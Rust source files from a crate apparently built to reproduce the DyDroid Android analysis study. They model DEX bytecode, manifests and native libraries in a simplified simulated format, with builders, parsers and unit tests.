        !matches!(self, NativeInsn::Jump { .. } | NativeInsn::Ret)
    }
}

/// A function within a native library.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct NativeFunction {
    /// Symbol name, e.g. `JNI_OnLoad` or `Java_com_x_Y_decrypt`.
    pub name: String,
    /// Whether the symbol is exported (visible to `dlsym`/JNI).
    pub exported: bool,
    /// Body.
    pub code: Vec<NativeInsn>,
}

impl NativeFunction {
    /// Creates an exported function.
    pub fn exported(name: impl Into<String>, code: Vec<NativeInsn>) -> Self {
        NativeFunction {
            name: name.into(),
            exported: true,
            code,
        }
    }

    /// Creates a local (non-exported) function.
    pub fn local(name: impl Into<String>, code: Vec<NativeInsn>) -> Self {
        NativeFunction {
            name: name.into(),
            exported: false,
            code,
        }
    }
}

/// A simulated native shared library.
///
/// # Example
///
/// ```
/// use dydroid_dex::native::{Arch, NativeFunction, NativeInsn, NativeLibrary};
///
/// let lib = NativeLibrary::new("libhello.so", Arch::Arm)
///     .with_function(NativeFunction::exported("JNI_OnLoad", vec![NativeInsn::Ret]));
/// let bytes = lib.to_bytes();
/// let back = NativeLibrary::parse(&bytes)?;
/// assert!(back.function("JNI_OnLoad").is_some());
/// # Ok::<(), dydroid_dex::DexError>(())
/// ```
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct NativeLibrary {
    /// Library soname, e.g. `libfoo.so`.
    pub soname: String,
    /// Target architecture.
    pub arch: Arch,
    /// Sonames of libraries this one depends on.
    pub needed: Vec<String>,
    /// Function table.
    pub functions: Vec<NativeFunction>,
}

impl NativeLibrary {
    /// Creates an empty library.
    pub fn new(soname: impl Into<String>, arch: Arch) -> Self {
        NativeLibrary {
            soname: soname.into(),
            arch,
            needed: Vec::new(),
            functions: Vec::new(),
        }
    }

    /// Adds a function (builder style).
    pub fn with_function(mut self, f: NativeFunction) -> Self {
        self.functions.push(f);
        self
    }

    /// Adds a dependency (builder style).
    pub fn with_needed(mut self, soname: impl Into<String>) -> Self {
        self.needed.push(soname.into());
        self
    }

    /// Looks up a function by symbol name.
    pub fn function(&self, name: &str) -> Option<&NativeFunction> {
        self.functions.iter().find(|f| f.name == name)
    }

    /// All exported symbol names.
    pub fn exports(&self) -> impl Iterator<Item = &str> {
        self.functions
            .iter()
            .filter(|f| f.exported)
            .map(|f| f.name.as_str())
    }

    /// All syscall names appearing anywhere in the library (used by quick
    /// static scans, e.g. the ptrace anti-debug heuristic).
    pub fn syscall_names(&self) -> Vec<&str> {
        self.functions
            .iter()
            .flat_map(|f| f.code.iter())
            .filter_map(|i| match i {
                NativeInsn::Syscall { name, .. } => Some(name.as_str()),
                _ => None,
            })
            .collect()
    }

    /// Serialises the library.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut w = Writer::new();
        w.bytes(SO_MAGIC);
        w.u8(match self.arch {
            Arch::Arm => 0,
            Arch::X86 => 1,
        });
        w.str(&self.soname);
        w.u32(self.needed.len() as u32);
        for n in &self.needed {
            w.str(n);
        }
        w.u32(self.functions.len() as u32);
        for f in &self.functions {
            w.str(&f.name);
            w.u8(u8::from(f.exported));
            w.u32(f.code.len() as u32);
            for insn in &f.code {
                encode_native_insn(&mut w, insn);
            }
        }
        w.into_bytes()
    }

    /// Parses an encoded library.
    ///
    /// # Errors
    ///
    /// Returns [`DexError`] (shared error type) on malformed input.
    pub fn parse(data: &[u8]) -> Result<Self, DexError> {
        let mut r = Reader::new(data);
        let magic = r.take(4, "so magic")?;
        if magic != SO_MAGIC {
            return Err(DexError::BadMagic);
        }
        let arch = match r.u8("so arch")? {
            0 => Arch::Arm,
            1 => Arch::X86,
            other => return Err(DexError::Invalid(format!("bad arch {other}"))),
        };
        let soname = r.str("soname")?;
        let n_needed = r.u32("needed count")?;
        let mut needed = Vec::with_capacity(n_needed.min(256) as usize);
        for _ in 0..n_needed {
            needed.push(r.str("needed")?);
        }
        let n_funcs = r.u32("function count")?;
        let mut functions = Vec::with_capacity(n_funcs.min(65_536) as usize);
        for _ in 0..n_funcs {
            let name = r.str("function name")?;
            let exported = r.u8("function exported")? == 1;
            let n_insns = r.u32("function length")?;
            let mut code = Vec::with_capacity(n_insns.min(1_000_000) as usize);
            for _ in 0..n_insns {
                code.push(decode_native_insn(&mut r)?);
            }
            // Validate branch targets.
            let len = code.len() as u32;
            for insn in &code {
                if let Some(t) = insn.branch_target() {
                    if t >= len {
                        return Err(DexError::Invalid(format!(
                            "native function {name}: branch target {t} out of range"
                        )));
                    }
                }
            }
            functions.push(NativeFunction {
                name,
                exported,
                code,
            });
        }
        Ok(NativeLibrary {
            soname,
            arch,
            needed,
            functions,
        })
    }
}

fn encode_native_insn(w: &mut Writer, insn: &NativeInsn) {
    match insn {
        NativeInsn::Nop => w.u8(0),
        NativeInsn::Const { dst, value } => {
            w.u8(1);
            w.u8(*dst);
            w.i64(*value);
        }
        NativeInsn::Add { dst, a, b } => {
            w.u8(2);
            w.u8(*dst);
            w.u8(*a);
            w.u8(*b);
        }
        NativeInsn::Call { symbol } => {
            w.u8(3);
            w.str(symbol);
        }
        NativeInsn::Syscall { name, arg } => {
            w.u8(4);
            w.str(name);
            match arg {
                Some(a) => {
                    w.u8(1);
                    w.str(a);
                }
                None => w.u8(0),
            }
        }
        NativeInsn::Jump { target } => {
            w.u8(5);
            w.u32(*target);
        }
        NativeInsn::Branch { cond, reg, target } => {
            w.u8(6);
            w.u8(match cond {
                NativeCond::Zero => 0,
                NativeCond::NonZero => 1,
            });
            w.u8(*reg);
            w.u32(*target);
        }
        NativeInsn::Ret => w.u8(7),
    }
}

fn decode_native_insn(r: &mut Reader) -> Result<NativeInsn, DexError> {
    Ok(match r.u8("native opcode")? {
        0 => NativeInsn::Nop,
        1 => NativeInsn::Const {
            dst: r.u8("const dst")?,
            value: r.i64("const value")?,
        },
        2 => NativeInsn::Add {
            dst: r.u8("add dst")?,
            a: r.u8("add a")?,
            b: r.u8("add b")?,
        },
        3 => NativeInsn::Call {
            symbol: r.str("call symbol")?,
        },
        4 => {
            let name = r.str("syscall name")?;
            let arg = if r.u8("syscall has-arg")? == 1 {
                Some(r.str("syscall arg")?)
            } else {
                None
            };
            NativeInsn::Syscall { name, arg }
        }
        5 => NativeInsn::Jump {
            target: r.u32("jump target")?,
        },
        6 => NativeInsn::Branch {
            cond: match r.u8("branch cond")? {
                0 => NativeCond::Zero,
                1 => NativeCond::NonZero,
                other => return Err(DexError::Invalid(format!("bad cond {other}"))),
            },
            reg: r.u8("branch reg")?,
            target: r.u32("branch target")?,
        },
        7 => NativeInsn::Ret,
        other => return Err(DexError::BadOpcode(other)),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> NativeLibrary {
        NativeLibrary::new("libtest.so", Arch::Arm)
            .with_needed("libc.so")
            .with_function(NativeFunction::exported(
                "JNI_OnLoad",
                vec![
                    NativeInsn::Const { dst: 0, value: 1 },
                    NativeInsn::Branch {
                        cond: NativeCond::Zero,
                        reg: 0,
                        target: 4,
                    },
                    NativeInsn::Call {
                        symbol: "helper".to_string(),
                    },
                    NativeInsn::Syscall {
                        name: "ptrace".to_string(),
                        arg: Some("com.tencent.mobileqq".to_string()),
                    },
                    NativeInsn::Ret,
                ],
            ))
            .with_function(NativeFunction::local("helper", vec![NativeInsn::Ret]))
    }

    #[test]
    fn round_trip() {
        let lib = sample();
        let back = NativeLibrary::parse(&lib.to_bytes()).unwrap();
        assert_eq!(back, lib);
    }

    #[test]
    fn exports_only_exported() {
        let lib = sample();
        let exports: Vec<&str> = lib.exports().collect();
        assert_eq!(exports, vec!["JNI_OnLoad"]);
    }

    #[test]
    fn syscall_scan() {
        let lib = sample();
        assert_eq!(lib.syscall_names(), vec!["ptrace"]);
    }

    #[test]
    fn bad_magic() {
        let mut bytes = sample().to_bytes();
        bytes[0] = b'X';
        assert_eq!(NativeLibrary::parse(&bytes), Err(DexError::BadMagic));
    }

    #[test]
    fn out_of_range_branch_rejected() {
        let lib = NativeLibrary::new("lib.so", Arch::X86).with_function(NativeFunction::exported(
            "f",
            vec![NativeInsn::Jump { target: 10 }],
        ));
        let bytes = lib.to_bytes();
        assert!(matches!(
            NativeLibrary::parse(&bytes),
            Err(DexError::Invalid(_))
        ));
    }

    #[test]
    fn fall_through() {
        assert!(NativeInsn::Nop.falls_through());
        assert!(!NativeInsn::Ret.falls_through());
        assert!(!NativeInsn::Jump { target: 0 }.falls_through());
        assert!(NativeInsn::Branch {
            cond: NativeCond::Zero,
            reg: 0,
            target: 0
        }
        .falls_through());
    }

    #[test]
    fn arch_dirs() {
        assert_eq!(Arch::Arm.abi_dir(), "armeabi");
        assert_eq!(Arch::X86.abi_dir(), "x86");
        assert_eq!(Arch::Arm.to_string(), "armeabi");
    }

    #[test]
    fn truncated_rejected() {
        let bytes = sample().to_bytes();
        assert!(NativeLibrary::parse(&bytes[..bytes.len() - 2]).is_err());
    }
}
