//! The AndroidManifest model.
//!
//! Serialised as a simple line-oriented text format (standing in for binary
//! AXML) inside the APK entry `AndroidManifest.xml`.

use std::fmt;

use serde::{Deserialize, Serialize};

/// Errors from manifest parsing.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ManifestError {
    /// A required field was missing.
    Missing(&'static str),
    /// A line could not be interpreted.
    BadLine(String),
}

impl fmt::Display for ManifestError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ManifestError::Missing(what) => write!(f, "manifest missing {what}"),
            ManifestError::BadLine(line) => write!(f, "unparseable manifest line: {line:?}"),
        }
    }
}

impl std::error::Error for ManifestError {}

/// The kind of an application component.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum ComponentKind {
    /// `<activity>`.
    Activity,
    /// `<service>`.
    Service,
    /// `<receiver>`.
    Receiver,
    /// `<provider>`.
    Provider,
}

impl ComponentKind {
    /// The manifest tag name.
    pub fn tag(self) -> &'static str {
        match self {
            ComponentKind::Activity => "activity",
            ComponentKind::Service => "service",
            ComponentKind::Receiver => "receiver",
            ComponentKind::Provider => "provider",
        }
    }

    /// Parses a tag name.
    pub fn from_tag(tag: &str) -> Option<Self> {
        Some(match tag {
            "activity" => ComponentKind::Activity,
            "service" => ComponentKind::Service,
            "receiver" => ComponentKind::Receiver,
            "provider" => ComponentKind::Provider,
            _ => return None,
        })
    }
}

/// A declared application component.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Component {
    /// Component kind.
    pub kind: ComponentKind,
    /// Dotted class name implementing the component.
    pub class: String,
    /// Whether the component is exported.
    pub exported: bool,
    /// Whether this is the launcher entry point (activities only).
    pub main: bool,
}

impl Component {
    /// A non-exported component of the given kind.
    pub fn new(kind: ComponentKind, class: impl Into<String>) -> Self {
        Component {
            kind,
            class: class.into(),
            exported: false,
            main: false,
        }
    }

    /// A launcher activity.
    pub fn main_activity(class: impl Into<String>) -> Self {
        Component {
            kind: ComponentKind::Activity,
            class: class.into(),
            exported: true,
            main: true,
        }
    }
}

/// The Android manifest: package identity, SDK levels, permissions,
/// the optional custom `Application` class and the component list.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Manifest {
    /// Application package name, e.g. `com.example.app`.
    pub package: String,
    /// Version code.
    pub version_code: u32,
    /// `minSdkVersion`.
    pub min_sdk: u32,
    /// `targetSdkVersion`.
    pub target_sdk: u32,
    /// Requested permissions, e.g. `android.permission.INTERNET`.
    pub permissions: Vec<String>,
    /// The `android:name` attribute of `<application>`: a custom
    /// [`Application`](https://developer.android.com/reference/android/app/Application)
    /// subclass run before any component — the packer container hook the
    /// obfuscation detector looks for.
    pub application_class: Option<String>,
    /// Declared components.
    pub components: Vec<Component>,
}

impl Manifest {
    /// Creates a minimal manifest for `package` with no components.
    pub fn new(package: impl Into<String>) -> Self {
        Manifest {
            package: package.into(),
            version_code: 1,
            min_sdk: 9,
            target_sdk: 18,
            permissions: Vec::new(),
            application_class: None,
            components: Vec::new(),
        }
    }

    /// Whether `permission` is requested.
    pub fn has_permission(&self, permission: &str) -> bool {
        self.permissions.iter().any(|p| p == permission)
    }

    /// Adds `permission` if not already present.
    pub fn add_permission(&mut self, permission: impl Into<String>) {
        let p = permission.into();
        if !self.has_permission(&p) {
            self.permissions.push(p);
        }
    }

    /// The launcher activity class, if one is declared.
    pub fn main_activity(&self) -> Option<&Component> {
        self.components
            .iter()
            .find(|c| c.kind == ComponentKind::Activity && c.main)
    }

    /// All activity components.
    pub fn activities(&self) -> impl Iterator<Item = &Component> {
        self.components
            .iter()
            .filter(|c| c.kind == ComponentKind::Activity)
    }

    /// Whether the app supports OS versions below Android 4.4 (API 19) —
    /// relevant to the external-storage code-injection vulnerability.
    pub fn supports_pre_kitkat(&self) -> bool {
        self.min_sdk < 19
    }

    /// Serialises to the line-oriented text format.
    pub fn to_text(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!("package: {}\n", self.package));
        out.push_str(&format!("version-code: {}\n", self.version_code));
        out.push_str(&format!("min-sdk: {}\n", self.min_sdk));
        out.push_str(&format!("target-sdk: {}\n", self.target_sdk));
        for p in &self.permissions {
            out.push_str(&format!("uses-permission: {p}\n"));
        }
        if let Some(app) = &self.application_class {
            out.push_str(&format!("application: {app}\n"));
        }
        for c in &self.components {
            out.push_str(&format!(
                "{}: {} exported={} main={}\n",
                c.kind.tag(),
                c.class,
                c.exported,
                c.main
            ));
        }
        out
    }

    /// Parses the line-oriented text format produced by [`Manifest::to_text`].
    ///
    /// # Errors
    ///
    /// Returns [`ManifestError`] when a required field is missing or a line
    /// is malformed.
    pub fn parse(text: &str) -> Result<Self, ManifestError> {
        let mut package = None;
        let mut version_code = 1;
        let mut min_sdk = 9;
        let mut target_sdk = 18;
        let mut permissions = Vec::new();
        let mut application_class = None;
        let mut components = Vec::new();

        for line in text.lines() {
            let line = line.trim();
            if line.is_empty() {
                continue;
            }
            let (key, value) = line
                .split_once(':')
                .ok_or_else(|| ManifestError::BadLine(line.to_string()))?;
            let value = value.trim();
            match key.trim() {
                "package" => package = Some(value.to_string()),
                "version-code" => {
                    version_code = value
                        .parse()
                        .map_err(|_| ManifestError::BadLine(line.to_string()))?;
                }
                "min-sdk" => {
                    min_sdk = value
                        .parse()
                        .map_err(|_| ManifestError::BadLine(line.to_string()))?;
                }
                "target-sdk" => {
                    target_sdk = value
                        .parse()
                        .map_err(|_| ManifestError::BadLine(line.to_string()))?;
                }
                "uses-permission" => permissions.push(value.to_string()),
                "application" => application_class = Some(value.to_string()),
                tag => {
                    let kind = ComponentKind::from_tag(tag)
                        .ok_or_else(|| ManifestError::BadLine(line.to_string()))?;
                    let mut parts = value.split_whitespace();
                    let class = parts
                        .next()
                        .ok_or_else(|| ManifestError::BadLine(line.to_string()))?
                        .to_string();
                    let mut exported = false;
                    let mut main = false;
                    for attr in parts {
                        match attr {
                            "exported=true" => exported = true,
                            "exported=false" => exported = false,
                            "main=true" => main = true,
                            "main=false" => main = false,
                            _ => return Err(ManifestError::BadLine(line.to_string())),
                        }
                    }
                    components.push(Component {
                        kind,
                        class,
                        exported,
                        main,
                    });
                }
            }
        }
        Ok(Manifest {
            package: package.ok_or(ManifestError::Missing("package"))?,
            version_code,
            min_sdk,
            target_sdk,
            permissions,
            application_class,
            components,
        })
    }
}

/// Commonly used permission name: write access to external storage.
pub const WRITE_EXTERNAL_STORAGE: &str = "android.permission.WRITE_EXTERNAL_STORAGE";
/// Commonly used permission name: network access.
pub const INTERNET: &str = "android.permission.INTERNET";
/// Commonly used permission name: coarse/fine location (folded into one).
pub const ACCESS_FINE_LOCATION: &str = "android.permission.ACCESS_FINE_LOCATION";
/// Commonly used permission name: read phone state (IMEI etc.).
pub const READ_PHONE_STATE: &str = "android.permission.READ_PHONE_STATE";

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Manifest {
        let mut m = Manifest::new("com.example.app");
        m.version_code = 7;
        m.min_sdk = 14;
        m.target_sdk = 18;
        m.add_permission(INTERNET);
        m.add_permission(WRITE_EXTERNAL_STORAGE);
        m.application_class = Some("com.example.app.App".to_string());
        m.components
            .push(Component::main_activity("com.example.app.Main"));
        m.components.push(Component::new(
            ComponentKind::Service,
            "com.example.app.Svc",
        ));
        m
    }

    #[test]
    fn text_round_trip() {
        let m = sample();
        let text = m.to_text();
        let back = Manifest::parse(&text).unwrap();
        assert_eq!(back, m);
    }

    #[test]
    fn missing_package_rejected() {
        assert_eq!(
            Manifest::parse("min-sdk: 9\n"),
            Err(ManifestError::Missing("package"))
        );
    }

    #[test]
    fn bad_line_rejected() {
        assert!(Manifest::parse("package: a\ngarbage line").is_err());
        assert!(Manifest::parse("package: a\nwidget: X").is_err());
        assert!(Manifest::parse("package: a\nmin-sdk: NaN").is_err());
    }

    #[test]
    fn permission_dedup() {
        let mut m = Manifest::new("a");
        m.add_permission(INTERNET);
        m.add_permission(INTERNET);
        assert_eq!(m.permissions.len(), 1);
        assert!(m.has_permission(INTERNET));
    }

    #[test]
    fn main_activity_lookup() {
        let m = sample();
        assert_eq!(m.main_activity().unwrap().class, "com.example.app.Main");
        assert_eq!(m.activities().count(), 1);
    }

    #[test]
    fn pre_kitkat_check() {
        let mut m = Manifest::new("a");
        m.min_sdk = 14;
        assert!(m.supports_pre_kitkat());
        m.min_sdk = 19;
        assert!(!m.supports_pre_kitkat());
    }
}
