//! # dydroid-dex
//!
//! A simplified, self-contained model of the Android application binary
//! ecosystem, used as the substrate for the DyDroid reproduction:
//!
//! - a **DEX-like bytecode container** ([`DexFile`]) holding classes, fields
//!   and methods whose bodies are sequences of a Dalvik-like instruction set
//!   ([`Instruction`]);
//! - a binary **encoding** of that container with header, deduplicated string
//!   pool and Adler-32 checksum ([`DexFile::to_bytes`] / [`DexFile::parse`]);
//! - a **smali-like** textual IR with a full disassembler and assembler
//!   ([`smali`]);
//! - an **APK-like archive** ([`Apk`]) bundling a manifest, `classes.dex`,
//!   assets and native libraries, with per-entry CRC-32;
//! - an **AndroidManifest** model ([`Manifest`]);
//! - a simulated **ELF-like native library** ([`NativeLibrary`]) with a small
//!   pseudo instruction set so that native code can be both executed by the
//!   simulated runtime and analysed by the DroidNative-like detector.
//!
//! The format is deliberately simpler than real DEX/ELF/ZIP, but it keeps the
//! properties the DyDroid pipeline depends on: parsing can fail in realistic
//! ways (truncation, corruption, anti-decompilation tricks), bytecode is a
//! real program that a VM interprets, and containers can be rewritten and
//! repackaged (e.g. to inject permissions).
//!
//! ## Example
//!
//! ```
//! use dydroid_dex::{builder::DexBuilder, AccessFlags};
//!
//! let mut dex = DexBuilder::new();
//! dex.class("com.example.Main", "java.lang.Object")
//!     .method("main", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC)
//!     .ret_void();
//! let file = dex.build();
//! let bytes = file.to_bytes();
//! let parsed = dydroid_dex::DexFile::parse(&bytes)?;
//! assert_eq!(parsed.classes().len(), 1);
//! # Ok::<(), dydroid_dex::DexError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod apk;
pub mod builder;
pub mod checksum;
pub mod class;
pub mod dexfile;
pub mod encode;
pub mod instruction;
pub mod manifest;
pub mod native;
pub mod refs;
pub mod smali;
pub mod types;

pub use apk::{Apk, ApkEntry, ApkError};
pub use class::{AccessFlags, ClassDef, Field, Method};
pub use dexfile::{DexError, DexFile};
pub use instruction::{BinOp, CmpKind, Instruction, InvokeKind, Reg};
pub use manifest::{Component, ComponentKind, Manifest, ManifestError};
pub use native::{Arch, NativeCond, NativeFunction, NativeInsn, NativeLibrary};
pub use refs::{FieldRef, MethodRef, MethodSig};
pub use types::TypeDesc;
