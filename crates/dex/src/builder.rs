//! Fluent builders for constructing DEX files programmatically.
//!
//! The workload generator uses these builders to synthesise app bytecode.
//! [`MethodBuilder`] provides forward-referencing labels that are resolved
//! to absolute instruction indices when the method is finished.
//!
//! # Example
//!
//! ```
//! use dydroid_dex::builder::DexBuilder;
//! use dydroid_dex::{AccessFlags, CmpKind, InvokeKind, MethodRef};
//!
//! let mut b = DexBuilder::new();
//! let class = b.class("com.example.Main", "java.lang.Object");
//! let m = class.method("check", "(I)I", AccessFlags::PUBLIC);
//! let done = m.label();
//! m.if_zero(CmpKind::Eq, 1, done);
//! m.const_int(0, 1);
//! m.ret(0);
//! m.bind(done);
//! m.const_int(0, 0);
//! m.ret(0);
//! let dex = b.build();
//! assert_eq!(dex.classes().len(), 1);
//! ```

use std::collections::HashMap;

use crate::class::{AccessFlags, ClassDef, Field, Method};
use crate::dexfile::DexFile;
use crate::instruction::{BinOp, CmpKind, Instruction, InvokeKind, Reg};
use crate::refs::{FieldRef, MethodRef};

/// A forward-referencing label issued by [`MethodBuilder::label`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Label(usize);

/// Builds a [`DexFile`] class by class.
#[derive(Debug, Default)]
pub struct DexBuilder {
    classes: Vec<ClassBuilder>,
}

impl DexBuilder {
    /// Creates an empty builder.
    pub fn new() -> Self {
        DexBuilder {
            classes: Vec::new(),
        }
    }

    /// Starts a new public class and returns its builder.
    pub fn class(
        &mut self,
        name: impl Into<String>,
        superclass: impl Into<String>,
    ) -> &mut ClassBuilder {
        self.classes.push(ClassBuilder::new(name, superclass));
        self.classes.last_mut().expect("just pushed")
    }

    /// Finishes and produces the [`DexFile`].
    ///
    /// # Panics
    ///
    /// Panics if any method contains an unbound label (a programming error
    /// in the caller).
    pub fn build(self) -> DexFile {
        let mut dex = DexFile::new();
        for c in self.classes {
            dex.add_class(c.build());
        }
        dex
    }
}

/// Builds a single class.
#[derive(Debug)]
pub struct ClassBuilder {
    def: ClassDef,
    methods: Vec<MethodBuilder>,
}

impl ClassBuilder {
    fn new(name: impl Into<String>, superclass: impl Into<String>) -> Self {
        ClassBuilder {
            def: ClassDef::new(name, superclass),
            methods: Vec::new(),
        }
    }

    /// Sets the class access flags.
    pub fn flags(&mut self, flags: AccessFlags) -> &mut Self {
        self.def.flags = flags;
        self
    }

    /// Adds an implemented interface.
    pub fn interface(&mut self, name: impl Into<String>) -> &mut Self {
        self.def.interfaces.push(name.into());
        self
    }

    /// Sets the source-file attribute.
    pub fn source_file(&mut self, name: impl Into<String>) -> &mut Self {
        self.def.source_file = Some(name.into());
        self
    }

    /// Adds a field.
    ///
    /// # Panics
    ///
    /// Panics if `ty` is not a valid type descriptor literal.
    pub fn field(&mut self, name: impl Into<String>, ty: &str, flags: AccessFlags) -> &mut Self {
        self.def.fields.push(Field::new(name, ty, flags));
        self
    }

    /// Starts a new method and returns its builder.
    ///
    /// # Panics
    ///
    /// Panics if `sig` is not a valid signature literal.
    pub fn method(
        &mut self,
        name: impl Into<String>,
        sig: &str,
        flags: AccessFlags,
    ) -> &mut MethodBuilder {
        self.methods.push(MethodBuilder::new(name, sig, flags));
        self.methods.last_mut().expect("just pushed")
    }

    /// Adds a trivial public no-arg constructor that just returns.
    pub fn default_constructor(&mut self) -> &mut Self {
        let m = self.method("<init>", "()V", AccessFlags::PUBLIC);
        m.ret_void();
        self
    }

    fn build(self) -> ClassDef {
        let mut def = self.def;
        for m in self.methods {
            def.methods.push(m.build());
        }
        def
    }
}

/// Builds a single method body with label support.
#[derive(Debug)]
pub struct MethodBuilder {
    method: Method,
    labels: Vec<Option<u32>>,
    // (instruction index, label) pairs patched at build time.
    patches: Vec<(usize, Label)>,
}

impl MethodBuilder {
    fn new(name: impl Into<String>, sig: &str, flags: AccessFlags) -> Self {
        MethodBuilder {
            method: Method::new(name, sig, flags),
            labels: Vec::new(),
            patches: Vec::new(),
        }
    }

    /// Sets the frame register count (default 8).
    pub fn registers(&mut self, n: u16) -> &mut Self {
        self.method.registers = n;
        self
    }

    /// Issues a fresh, unbound label.
    pub fn label(&mut self) -> Label {
        self.labels.push(None);
        Label(self.labels.len() - 1)
    }

    /// Binds `label` to the next instruction index.
    ///
    /// # Panics
    ///
    /// Panics if the label was already bound.
    pub fn bind(&mut self, label: Label) -> &mut Self {
        let slot = &mut self.labels[label.0];
        assert!(slot.is_none(), "label bound twice");
        *slot = Some(self.method.code.len() as u32);
        self
    }

    /// Appends a raw instruction.
    pub fn push(&mut self, insn: Instruction) -> &mut Self {
        self.method.code.push(insn);
        self
    }

    /// `const vdst, value`.
    pub fn const_int(&mut self, dst: Reg, value: i64) -> &mut Self {
        self.push(Instruction::Const { dst, value })
    }

    /// `const-string vdst, "value"`.
    pub fn const_str(&mut self, dst: Reg, value: impl Into<String>) -> &mut Self {
        self.push(Instruction::ConstString {
            dst,
            value: value.into(),
        })
    }

    /// `const-null vdst`.
    pub fn const_null(&mut self, dst: Reg) -> &mut Self {
        self.push(Instruction::ConstNull { dst })
    }

    /// `move vdst, vsrc`.
    pub fn mov(&mut self, dst: Reg, src: Reg) -> &mut Self {
        self.push(Instruction::Move { dst, src })
    }

    /// `move-result vdst`.
    pub fn move_result(&mut self, dst: Reg) -> &mut Self {
        self.push(Instruction::MoveResult { dst })
    }

    /// `new-instance vdst, Lclass;`.
    pub fn new_instance(&mut self, dst: Reg, class: impl Into<String>) -> &mut Self {
        self.push(Instruction::NewInstance {
            dst,
            class: class.into(),
        })
    }

    /// Any invoke.
    pub fn invoke(&mut self, kind: InvokeKind, method: MethodRef, args: Vec<Reg>) -> &mut Self {
        self.push(Instruction::Invoke { kind, method, args })
    }

    /// `invoke-virtual`.
    pub fn invoke_virtual(&mut self, method: MethodRef, args: Vec<Reg>) -> &mut Self {
        self.invoke(InvokeKind::Virtual, method, args)
    }

    /// `invoke-static`.
    pub fn invoke_static(&mut self, method: MethodRef, args: Vec<Reg>) -> &mut Self {
        self.invoke(InvokeKind::Static, method, args)
    }

    /// `invoke-direct` (constructors).
    pub fn invoke_direct(&mut self, method: MethodRef, args: Vec<Reg>) -> &mut Self {
        self.invoke(InvokeKind::Direct, method, args)
    }

    /// `iget vdst, vobj, field`.
    pub fn iget(&mut self, dst: Reg, obj: Reg, field: FieldRef) -> &mut Self {
        self.push(Instruction::IGet { dst, obj, field })
    }

    /// `iput vsrc, vobj, field`.
    pub fn iput(&mut self, src: Reg, obj: Reg, field: FieldRef) -> &mut Self {
        self.push(Instruction::IPut { src, obj, field })
    }

    /// `sget vdst, field`.
    pub fn sget(&mut self, dst: Reg, field: FieldRef) -> &mut Self {
        self.push(Instruction::SGet { dst, field })
    }

    /// `sput vsrc, field`.
    pub fn sput(&mut self, src: Reg, field: FieldRef) -> &mut Self {
        self.push(Instruction::SPut { src, field })
    }

    /// Conditional branch on comparison with zero.
    pub fn if_zero(&mut self, cmp: CmpKind, reg: Reg, target: Label) -> &mut Self {
        self.patches.push((self.method.code.len(), target));
        self.push(Instruction::IfZero {
            cmp,
            reg,
            target: u32::MAX,
        })
    }

    /// Conditional branch comparing two registers.
    pub fn if_cmp(&mut self, cmp: CmpKind, a: Reg, b: Reg, target: Label) -> &mut Self {
        self.patches.push((self.method.code.len(), target));
        self.push(Instruction::IfCmp {
            cmp,
            a,
            b,
            target: u32::MAX,
        })
    }

    /// Unconditional branch.
    pub fn goto(&mut self, target: Label) -> &mut Self {
        self.patches.push((self.method.code.len(), target));
        self.push(Instruction::Goto { target: u32::MAX })
    }

    /// `op vdst, va, vb`.
    pub fn binop(&mut self, op: BinOp, dst: Reg, a: Reg, b: Reg) -> &mut Self {
        self.push(Instruction::BinOp { op, dst, a, b })
    }

    /// `return-void`.
    pub fn ret_void(&mut self) -> &mut Self {
        self.push(Instruction::ReturnVoid)
    }

    /// `return vreg`.
    pub fn ret(&mut self, reg: Reg) -> &mut Self {
        self.push(Instruction::Return { reg })
    }

    /// `throw vreg`.
    pub fn throw(&mut self, reg: Reg) -> &mut Self {
        self.push(Instruction::Throw { reg })
    }

    /// `check-cast vreg, Lclass;`.
    pub fn check_cast(&mut self, reg: Reg, class: impl Into<String>) -> &mut Self {
        self.push(Instruction::CheckCast {
            reg,
            class: class.into(),
        })
    }

    fn build(self) -> Method {
        let mut method = self.method;
        let resolved: HashMap<usize, u32> = self
            .patches
            .iter()
            .map(|(idx, label)| {
                let target = self.labels[label.0]
                    .unwrap_or_else(|| panic!("unbound label in {}", method.name));
                (*idx, target)
            })
            .collect();
        for (idx, target) in resolved {
            method.code[idx].set_branch_target(target);
        }
        method
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn labels_resolve_forward_and_backward() {
        let mut b = DexBuilder::new();
        let c = b.class("a.B", "java.lang.Object");
        let m = c.method("loop", "(I)V", AccessFlags::PUBLIC);
        let head = m.label();
        let done = m.label();
        m.bind(head);
        m.if_zero(CmpKind::Le, 1, done); // idx 0 -> target 4
        m.const_int(0, 1);
        m.binop(BinOp::Sub, 1, 1, 0);
        m.goto(head); // idx 3 -> target 0
        m.bind(done);
        m.ret_void();
        let dex = b.build();
        let method = dex.class("a.B").unwrap().method_by_name("loop").unwrap();
        assert_eq!(method.code[0].branch_target(), Some(4));
        assert_eq!(method.code[3].branch_target(), Some(0));
        assert!(method.validate("a.B").is_ok());
    }

    #[test]
    #[should_panic(expected = "unbound label")]
    fn unbound_label_panics() {
        let mut b = DexBuilder::new();
        let c = b.class("a.B", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC);
        let l = m.label();
        m.goto(l);
        m.ret_void();
        let _ = b.build();
    }

    #[test]
    #[should_panic(expected = "label bound twice")]
    fn double_bind_panics() {
        let mut b = DexBuilder::new();
        let c = b.class("a.B", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC);
        let l = m.label();
        m.bind(l);
        m.bind(l);
    }

    #[test]
    fn default_constructor() {
        let mut b = DexBuilder::new();
        b.class("a.B", "java.lang.Object").default_constructor();
        let dex = b.build();
